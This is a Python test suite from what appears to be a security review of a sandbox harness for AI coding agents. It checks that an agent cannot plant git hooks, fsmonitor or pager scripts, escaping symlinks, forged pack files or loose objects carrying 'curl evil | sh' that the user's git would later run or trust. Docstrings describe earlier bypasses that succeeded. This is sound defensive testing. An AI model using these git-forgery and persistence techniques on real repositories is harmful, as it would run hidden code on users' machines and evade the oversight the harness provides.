"""Attack review 28, part a: worktree sessions, and what the user's own
git and tools do later with what the agent left, under the embedded
default policy in enforce mode, as root and as an ordinary user.

A worktree's tree is merged into the checkout it was made from, four
levels up (.git/harness/worktrees/ID): what lands there is what the
agent wrote in the worktree.

The repository's configuration names code by a path relative to the
work tree's top (core.hooksPath = .githooks, a team's tracked hooks;
core.fsmonitor = ./tools/fsmon.sh; an include of ../shared.gitconfig).
In the checkout those files are refused to the agent
(harness:git-config); in a worktree session the configuration was
never read (the worktree's .git is a file, and cwd/.git/config was
looked for), nor in a session started in a subdirectory of the
checkout: the agent wrote .githooks/pre-commit and tools/fsmon.sh in
the worktree, they were in the result branch, and the user's git status
after git merge ran the agent's fsmon.sh.

A symbolic link the agent makes with a relative text that climbs out
of the worktree names a different file once merged: .vscode ->
../../HOME/.cache/x led nowhere the agent writes where it was judged,
and in the checkout to the tasks.json the agent wrote in ~/.cache
(an absolute link there is asked, project-autorun)."""

import hashlib
import json
import os
import subprocess
import zlib

from lib import AUDIT_TOOL, PYTHON, check, harness
from test_default_policy import fake_home
from test_worktree import git, make_repo, session_dir, tree_files, wt_run

TRY = "try() { if sh -c \"$1\" 2>/dev/null; then echo \"MADE $2\"; else echo \"REFUSED $2\"; fi; }"


def _merge_and_status(repo, branch, marker):
    """The user's merge of the session's branch, then git status (which
    runs core.fsmonitor): whether the marker file appeared."""
    git(repo, "merge", "-q", "--no-edit", branch)
    e = dict(os.environ)
    e.pop("LD_PRELOAD", None)
    subprocess.run(["git", "-C", repo, "status", "--short"], capture_output=True, env=e)
    return os.path.exists(marker)


def test_code_the_checkouts_configuration_names_is_not_written_in_its_worktree(wd):
    home = fake_home(wd)
    repo = make_repo(wd)
    marker = os.path.join(wd.path, "fsmon-ran")
    git(repo, "config", "core.hooksPath", ".githooks")
    git(repo, "config", "core.fsmonitor", "./tools/fsmon.sh")
    git(repo, "config", "include.path", "../shared.gitconfig")
    fsmon = "#!/bin/sh\\necho ran > %s\\n" % marker
    script = "\n".join([
        TRY,
        "try 'mkdir -p .githooks && printf \"#!/bin/sh\\n\" > .githooks/pre-commit' hook",
        "try 'busybox mkdir -p .githooks && busybox sh -c \"echo x > .githooks/post-checkout\"' bbhook",
        "try 'mkdir -p tools && printf \"%s\" > tools/fsmon.sh && chmod +x tools/fsmon.sh' fsmon" % fsmon,
        "try 'busybox sh -c \"echo x > tools/fsmon2.sh && mv tools/fsmon2.sh tools/fsmon.sh\"' bbfsmon",
        "try 'printf \"[core]\\n\\tfsmonitor = ./x\\n\" > shared.gitconfig' include",
        "try 'echo x > src.txt' plain",
    ])
    r = wt_run(wd, repo, ["sh", "-c", script], "c28a", env={"HOME": home})
    r.expect_status(0)
    out = r.stdout
    for what in ("hook", "bbhook", "fsmon", "bbfsmon", "include"):
        check("REFUSED " + what in out, "%s: %s\n%s" % (what, out, r.stderr[-3000:]))
    check("MADE plain" in out, "the tree's own file: %s" % out)
    files = tree_files(repo, "harness/c28a")
    for name in (".githooks/pre-commit", ".githooks/post-checkout", "tools/fsmon.sh",
                 "shared.gitconfig"):
        check(name not in files, "%s in the result: %s" % (name, sorted(files)))
    wt = os.path.join(os.path.realpath(repo), ".git", "harness", "worktrees", "c28a")
    for name in (".githooks", "tools/fsmon.sh", "shared.gitconfig"):
        recs = [x for x in r.records if x.get("verdict") == "deny" and
                x.get("args", {}).get("path", "").endswith("/" + name)]
        check(recs and all(x["rule"] == "harness:git-config" for x in recs) and
              any(x["args"]["path"] == os.path.join(wt, name) for x in recs),
              "%s: its records %r" % (name, recs))
    check(not _merge_and_status(repo, "harness/c28a", marker), "the user's git status ran fsmon.sh")


def test_code_the_configuration_names_is_not_written_from_a_subdirectory(wd):
    """The same configuration naming code in a subdirectory
    (core.hooksPath = sub/.githooks), a session without a worktree
    started there (the repository's configuration was read at
    cwd/.git/config only, and its relative values from cwd)."""
    home = fake_home(wd)
    repo = make_repo(wd)
    git(repo, "config", "core.hooksPath", "sub/.githooks")
    git(repo, "config", "core.fsmonitor", "./sub/tools/fsmon.sh")
    script = "\n".join([
        TRY,
        "try 'mkdir -p .githooks && echo x > .githooks/pre-commit' hook",
        "try 'mkdir -p tools; busybox sh -c \"echo x > tools/fsmon.sh\"' bbfsmon",
        "try 'echo x > plain' plain",
    ])
    wd.path, saved = os.path.join(repo, "sub"), wd.path
    try:
        r = harness(["sh", "-c", script], wd, policy=None, env={"HOME": home})
    finally:
        wd.path = saved
    out = r.stdout
    for what in ("hook", "bbfsmon"):
        check("REFUSED " + what in out, "%s: %s\n%s" % (what, out, r.stderr[-3000:]))
    check("MADE plain" in out, "the project's own file: %s" % out)
    check(not os.path.exists(os.path.join(repo, "sub", ".githooks", "pre-commit")) and
          not os.path.exists(os.path.join(repo, "sub", "tools", "fsmon.sh")), "written")
    for name in ("sub/.githooks", "sub/tools/fsmon.sh"):
        recs = [x for x in r.records if x.get("verdict") == "deny" and
                x.get("args", {}).get("path", "").endswith("/" + name)]
        check(recs and all(x["rule"] == "harness:git-config" for x in recs),
              "%s: its records %r" % (name, recs))


def test_a_link_that_leads_out_of_the_worktree_is_not_made(wd):
    home = fake_home(wd)
    repo = make_repo(wd)
    cache = os.path.join(home, ".cache", "x")
    rel = os.path.relpath(cache, repo)  # as it leads from the checkout
    os.makedirs(cache)
    script = "\n".join([
        TRY,
        "echo '{\"tasks\": []}' > %s/tasks.json" % cache,
        "ln -s %s $TMPDIR/l; mv $TMPDIR/l .vscode 2>/dev/null; echo mv=$?" % rel,
        "try 'ln -s %s .vscode' ln" % rel,
        "try 'busybox ln -s %s .vscode' bbln" % rel,
        "try 'mkdir -p web && ln -s ../%s web/.vscode' deeper" % rel,
        "try 'ln -s ../../../../.. up' up",
        "try 'ln -s sub/s lnk' inside",
        "try 'mkdir -p node_modules/x/d node_modules/.bin && ln -s ../x/d node_modules/.bin/x' binlink",
        "try 'ln -s /usr/bin usrbin' absolute",
    ])
    r = wt_run(wd, repo, ["sh", "-c", script], "l28a", env={"HOME": home})
    r.expect_status(0)
    out = r.stdout
    check("mv=1" in out, "the link moved in: %s" % out)
    for what in ("ln", "bbln", "deeper", "up"):
        check("REFUSED " + what in out, "%s: %s\n%s" % (what, out, r.stderr[-3000:]))
    for what in ("inside", "binlink", "absolute"):
        check("MADE " + what in out, "%s: %s\n%s" % (what, out, r.stderr[-3000:]))
    files = tree_files(repo, "harness/l28a")
    for name in (".vscode", "web/.vscode", "up"):
        check(name not in files, "%s in the result: %s" % (name, sorted(files)))
    check(files.get("lnk") == b"sub/s", "the link inside: %r" % files.get("lnk"))
    recs = [x for x in r.records if x.get("rule") == "harness:worktree-link"]
    check(len([x for x in recs if x.get("op") == "symlink"]) >= 3 and
          any(x.get("op") == "rename" for x in recs) and
          all(x["verdict"] == "deny" for x in recs), "the refusals' records %r" % recs)
    git(repo, "merge", "-q", "--no-edit", "harness/l28a")
    check(not os.path.lexists(os.path.join(repo, ".vscode")), "the merge made .vscode")


# A pack of one blob whose index claims it is the object OID: git and
# libgit2 look in packs first and never hash what they read, so OID
# then holds CONTENT for every later checkout, diff and review.
FORGE = r"""
import binascii, hashlib, os, struct, sys, zlib
gitdir, oid, content, how = sys.argv[1], bytes.fromhex(sys.argv[2]), sys.argv[3].encode(), sys.argv[4]
n = len(content); b = (3 << 4) | (n & 15); n >>= 4; hdr = bytearray()
while n:
    hdr.append(b | 0x80); b = n & 0x7f; n >>= 7
hdr.append(b)
entry = bytes(hdr) + zlib.compress(content)
pack = b"PACK" + struct.pack(">II", 2, 1) + entry
pack += hashlib.sha1(pack).digest()
idx = b"\377tOc" + struct.pack(">I", 2)
idx += b"".join(struct.pack(">I", 1 if i >= oid[0] else 0) for i in range(256))
idx += oid + struct.pack(">I", binascii.crc32(entry)) + struct.pack(">I", 12) + pack[-20:]
idx += hashlib.sha1(idx).digest()
objects = os.path.join(gitdir, "objects")
name = os.path.join(objects, "pack", "pack-" + hashlib.sha1(pack + how.encode()).hexdigest())
try:
    if how == "direct":
        open(name + ".pack", "wb").write(pack)
        open(name + ".idx", "wb").write(idx)
    else:  # written as loose objects' temporary files, renamed or linked in
        os.makedirs(os.path.join(objects, "ab"), exist_ok=True)
        for ext, data in ((".pack", pack), (".idx", idx)):
            tmp = os.path.join(objects, "ab", "tmp_obj_" + how + ext[1:])
            open(tmp, "wb").write(data)
            (os.rename if how == "rename" else os.link)(tmp, name + ext)
    print("FORGED", how)
except OSError as e:
    print("REFUSED", how, e.errno)
"""

GOOD = "all:\n\techo good\n"
EVIL = "all:\n\techo EVIL\n"  # the same length: git status stays clean


def _forge_attempts(gitdir, oid):
    lines = ['%s -c "$FORGE" %s %s "$(printf \'%s\')" %s' %
             (PYTHON, gitdir, oid, EVIL.replace("\n", "\\n").replace("\t", "\\t"), how)
             for how in ("direct", "rename", "link")]
    lines.append("busybox cp $TMPDIR/p %s/objects/pack/pack-%s.idx; echo bbcp=$?" % (gitdir, "0" * 40))
    lines.append("busybox cp $TMPDIR/p %s/objects/info/commit-graph; echo bbgraph=$?" % gitdir)
    lines.append("git add -A && git commit -qm own && echo COMMITTED")
    return "echo x > $TMPDIR/p; echo mine > mine.txt\n" + "\n".join(lines)


def _check_not_forged(repo, oid, r, what):
    out = r.stdout
    check("FORGED" not in out and out.count("REFUSED") == 3 and "bbcp=1" in out and
          "bbgraph=1" in out, "%s: %s\n%s" % (what, out, r.stderr[-3000:]))
    check("COMMITTED" in out, "%s: the agent's own commit (loose objects): %s\n%s" %
          (what, out, r.stderr[-2000:]))
    check(git(repo, "cat-file", "-p", oid) == GOOD, "%s: %s holds %r" %
          (what, oid, git(repo, "cat-file", "-p", oid)))
    os.unlink(os.path.join(repo, "Makefile"))
    git(repo, "checkout", "--", "Makefile")
    check(open(os.path.join(repo, "Makefile")).read() == GOOD, "%s: checkout wrote the agent's" % what)
    recs = [x for x in r.records if x.get("rule") == "harness:git-objects"]
    check(len(recs) >= 5 and all(x["verdict"] == "deny" for x in recs) and
          any(x.get("layer") == "kernel" for x in recs), "%s: the records %r" % (what, recs))


def test_a_pack_the_agent_writes_redefines_no_object_of_the_users(wd):
    """In a worktree session (the common dir's objects/ is the agent's to
    write for its commits) and in a session in the checkout."""
    home = fake_home(wd)
    repo = make_repo(wd, files={"Makefile": GOOD, "a": "a\n"})
    oid = git(repo, "rev-parse", "HEAD:Makefile").strip()
    gitdir = os.path.join(os.path.realpath(repo), ".git")
    r = wt_run(wd, repo, ["sh", "-c", _forge_attempts(gitdir, oid)], "o28a",
               env={"HOME": home, "FORGE": FORGE})
    _check_not_forged(repo, oid, r, "worktree")
    wd.path, saved = repo, wd.path
    try:
        r = harness(["sh", "-c", _forge_attempts(gitdir, oid)], wd, policy=None,
                    env={"HOME": home, "FORGE": FORGE})
    finally:
        wd.path = saved
    _check_not_forged(repo, oid, r, "checkout")


def test_a_link_left_leading_out_of_the_worktree_is_named_in_the_result(wd):
    """A link made leading inside the tree, left leading out of it: its
    directory moved up a level (d1/d2/l -> ../../x, then d1/d2 moved to
    d2), or a link put on its way (s1/s2/aa -> bb/../../../y while bb is a
    directory, then bb made a link to ..). Each call is the agent's to
    make; the result is what the user merges, so the manifest names such
    a link (leads_out, links_out) and harness-exec says so on stderr."""
    home = fake_home(wd)
    repo = make_repo(wd)
    script = "\n".join([
        "mkdir -p d1/d2 && ln -s ../../x d1/d2/l && mv d1/d2 d2 && echo MOVED",
        "mkdir -p s1/s2/bb && ln -s bb/../../../y s1/s2/aa && rmdir s1/s2/bb && "
        "ln -s .. s1/s2/bb && echo SWAPPED",
        "mkdir -p n/m && ln -s ../m2 n/m/in && ln -s /usr/bin abs && echo INSIDE",
    ])
    r = wt_run(wd, repo, ["sh", "-c", script], "m28a", env={"HOME": home})
    r.expect_status(0)
    for what in ("MOVED", "SWAPPED", "INSIDE"):
        check(what in r.stdout, "%s: %s\n%s" % (what, r.stdout, r.stderr[-3000:]))
    files = tree_files(repo, "harness/m28a")
    check(files.get("d2/l") == b"../../x" and files.get("s1/s2/aa") == b"bb/../../../y",
          "the result: %r" % sorted(files))
    man = json.load(open(os.path.join(session_dir(wd, "m28a"), "manifest.json")))
    out = sorted(f["path"] for f in man["files"] if f.get("leads_out"))
    check(out == ["d2/l", "s1/s2/aa"] and man.get("links_out") == 2,
          "the manifest's links leading out: %r (links_out %r)" % (out, man.get("links_out")))
    for name in ("d2/l", "s1/s2/aa"):
        check("the result's link %s leads out of its tree" % name in r.stderr,
              "%s: not said: %s" % (name, r.stderr[-3000:]))
    check("n/m/in" not in r.stderr and "abs" not in out, "a link inside, an absolute one")


def test_a_branch_made_a_symbolic_ref_ends_no_session_unanchored(wd):
    """The session's branch (refs/heads/harness/ID) is the agent's to
    write, for its own commits. Made a symbolic ref (ref: refs/heads/main),
    it has no target of its own: read as one at the end, harness-exec
    died of SIGSEGV after session_end, with no result commit, no anchor
    of its log, and the worktree left in .git/harness. Now the result is
    committed on the base, on a branch of its own, and main is not
    moved."""
    home = fake_home(wd)
    repo = make_repo(wd)
    main0 = git(repo, "rev-parse", "main").strip()
    gd = os.path.join(os.path.realpath(repo), ".git")
    script = ("echo new > a; busybox sh -c \"printf 'ref: refs/heads/main\\n' > "
              "%s/refs/heads/harness/y28a\"; echo sym=$?" % gd)
    r = wt_run(wd, repo, ["sh", "-c", script], "y28a", env={"HOME": home})
    check("sym=0" in r.stdout, "the branch made a symbolic ref: %s %s" % (r.stdout, r.stderr[-2000:]))
    r.expect_status(0)
    check(git(repo, "rev-parse", "main").strip() == main0, "main was moved")
    check(git(repo, "symbolic-ref", "-q", "refs/heads/harness/y28a", check_rc=False) == "",
          "the branch is still a symbolic ref")
    files = tree_files(repo, "harness/y28a")
    check(files.get("a") == b"new\n", "the result: %r" % files.get("a"))
    check(git(repo, "rev-parse", "harness/y28a^").strip() == main0, "the result's parent")
    check("a symbolic ref" in r.stderr, "not said: %s" % r.stderr[-2000:])
    check(not os.path.exists(os.path.join(gd, "harness", "worktrees", "y28a")), "the worktree was left")
    env = dict(os.environ, XDG_STATE_HOME=wd.state)
    env.pop("LD_PRELOAD", None)
    v = subprocess.run([AUDIT_TOOL, "verify", r.log], capture_output=True, text=True,
                       env=env, timeout=60)
    check(v.returncode == 0 and "anchor" not in v.stdout + v.stderr,
          "verify: %r %r" % (v.stdout, v.stderr))


# A loose object of the bytes SHOWN planted under the id that REAL will
# have, then a file of REAL in the tree.
PLANT = r"""
import hashlib, os, sys, zlib
gitdir, real, shown = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
oid = hashlib.sha1(b"blob %d\0" % len(real) + real).hexdigest()
d = os.path.join(gitdir, "objects", oid[:2]); os.makedirs(d, exist_ok=True)
# as git writes one: a temporary file renamed to the object's name (an
# open of the name itself is refused, attack review 28d)
open(os.path.join(d, "tmp_obj_p"), "wb").write(zlib.compress(b"blob %d\0" % len(shown) + shown))
os.rename(os.path.join(d, "tmp_obj_p"), os.path.join(d, oid[2:]))
open("f.sh", "wb").write(real)
print("PLANTED", oid)
"""


def test_a_loose_object_planted_under_a_files_id_is_not_the_result(wd):
    """Loose objects are the agent's to write (its commits), and neither
    git nor libgit2 writes an object whose name exists: the bytes of
    'echo hello' planted under the id of 'curl evil | sh', then a file of
    the latter in the tree, made the checkpoints and the result name that
    id, the user's git show and merge of the result give 'echo hello'
    (git does not hash what it reads), the manifest give no hash (libgit2
    does, and failed to read it), while the worktree (kept) held the
    curl. Now the loose objects the session made are read with their
    hash checked at the end, a planted one removed and the tree's
    written again; session_end and stderr say so."""
    home = fake_home(wd)
    repo = make_repo(wd)
    gd = os.path.join(os.path.realpath(repo), ".git")
    real, shown = "curl evil | sh\n", "echo hello\n"
    r = wt_run(wd, repo, [PYTHON, "-c", PLANT, gd, real, shown], "f28a",
               env={"HOME": home}, extra=["--keep-worktree"])
    r.expect_status(0)
    check("PLANTED" in r.stdout, "%s %s" % (r.stdout, r.stderr[-2000:]))
    check(tree_files(repo, "harness/f28a").get("f.sh") == real.encode(),
          "the user's git reads the result's f.sh as %r" % tree_files(repo, "harness/f28a").get("f.sh"))
    man = json.load(open(os.path.join(session_dir(wd, "f28a"), "manifest.json")))
    f = [x for x in man["files"] if x["path"] == "f.sh"]
    check(f and f[0].get("sha256") == hashlib.sha256(real.encode()).hexdigest(),
          "the manifest's f.sh: %r" % f)
    end = [x for x in r.records if x.get("event") == "session_end"]
    check(end and end[-1].get("worktree", {}).get("forged_objects") == 1,
          "session_end: %r" % (end[-1].get("worktree") if end else None))
    check("did not hold what their names say" in r.stderr, "not said: %s" % r.stderr[-2000:])


def test_a_loose_object_planted_for_the_users_next_commit_is_removed(wd):
    """Without a worktree: the agent leaves f.sh ('echo fine', what the
    user's git diff and status show) and plants the bytes of a curl under
    its id, by python and by a static busybox cp. The user's git add of
    f.sh wrote no object (one existed), the commit named the planted one,
    and the user's next checkout of f.sh wrote the curl. Now the loose
    objects the session made are read with their hashes checked at its
    end (the hidden changes' check), a planted one removed; a
    forged_objects record says so (and stderr, unless --quiet)."""
    home = fake_home(wd)
    repo = make_repo(wd)
    gd = os.path.join(os.path.realpath(repo), ".git")
    real, shown = "echo fine\n", "curl evil | sh\n"
    real2 = "echo fine 2\n"
    oid2 = hashlib.sha1(b"blob %d\0" % len(real2) + real2.encode()).hexdigest()
    forged = os.path.join(wd.path, "forged-object")
    with open(forged, "wb") as f:
        f.write(zlib.compress(b"blob %d\0" % len(shown) + shown.encode()))
    script = "\n".join([
        '%s -c "$PLANT" %s "%s" "%s"' % (PYTHON, gd, real, shown),
        "printf '%s' > g.sh; busybox mkdir -p %s/objects/%s; busybox cp %s %s/objects/%s/tmp_obj_b && "
        "busybox mv %s/objects/%s/tmp_obj_b %s/objects/%s/%s; echo bb=$?"
        % (real2.replace("\n", "\\n"), gd, oid2[:2], forged, gd, oid2[:2], gd, oid2[:2], gd,
           oid2[:2], oid2[2:]),
    ])
    wd.path, saved = repo, wd.path
    try:
        r = harness(["sh", "-c", script], wd, policy=None,
                    env={"HOME": home, "PLANT": PLANT})
    finally:
        wd.path = saved
    check("PLANTED" in r.stdout and "bb=0" in r.stdout, "%s %s" % (r.stdout, r.stderr[-2000:]))
    recs = [x for x in r.records if x.get("event") == "forged_objects"]
    check(recs and recs[-1].get("removed") == 2, "the record: %r" % recs)
    git(repo, "add", "f.sh", "g.sh")
    git(repo, "commit", "-qm", "the user's")
    for name, want in (("f.sh", real), ("g.sh", real2)):
        os.unlink(os.path.join(repo, name))
        git(repo, "checkout", "--", name)
        got = open(os.path.join(repo, name)).read()
        check(got == want, "%s checked out as %r" % (name, got))


def test_other_programs_the_configuration_names_are_not_the_agents(wd):
    """Keys whose value git runs that the configuration's reading left
    out: a command's pager (pager.log = ./tools/pager.sh, run by the
    user's next git log), git add -p's interactive.diffFilter, an
    external diff (diff.external), a difftool's command, a local
    remote's uploadpack (git fetch runs it). Each names a program by a
    path in the checkout, which the agent wrote, in a worktree session
    here (the result is merged there)."""
    home = fake_home(wd)
    repo = make_repo(wd)
    keys = {"pager.log": "./tools/pager.sh", "interactive.diffFilter": "./tools/filter.sh",
            "diff.external": "tools/ext.sh", "difftool.x.cmd": "./tools/dt.sh $LOCAL",
            "remote.up.uploadpack": "./tools/up.sh"}
    for k, v in keys.items():
        git(repo, "config", k, v)
    names = sorted(os.path.basename(v.split()[0]) for v in keys.values())
    script = "\n".join([TRY, "mkdir -p tools"] +
                       ["try 'echo x > tools/%s' %s" % (n, n) for n in names] +
                       ["try 'echo x > tools/other.sh' other"])
    r = wt_run(wd, repo, ["sh", "-c", script], "k28a", env={"HOME": home})
    r.expect_status(0)
    for n in names:
        check("REFUSED " + n in r.stdout, "%s: %s\n%s" % (n, r.stdout, r.stderr[-2000:]))
    check("MADE other" in r.stdout, "the tree's own file: %s" % r.stdout)
    files = tree_files(repo, "harness/k28a")
    check(not any(("tools/" + n) in files for n in names), "in the result: %r" % sorted(files))
